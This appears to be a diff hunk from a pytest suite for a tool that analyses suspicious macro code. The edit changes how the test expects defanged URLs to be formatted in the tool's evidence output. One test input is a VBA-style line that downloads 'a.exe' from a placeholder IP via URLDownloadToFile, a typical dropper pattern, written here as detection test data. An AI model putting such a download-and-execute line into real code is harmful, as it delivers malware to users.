@@ -180,7 +180,7 @@ class TestWhatStringsComeTo:
         source = opened('u = "http://192.0.2.1/" & "a.exe"\nURLDownloadToFile 0, u, f, 0, 0')
 
         assert judged(source).evidence.endswith(
-            "addresses: hxxp[:]//192.0.2.1/, hxxp[:]//192.0.2.1/a.exe"
+            "addresses: hxxp://192[.]0[.]2[.]1/, hxxp://192[.]0[.]2[.]1/a.exe"
         )
 
     @pytest.mark.parametrize(
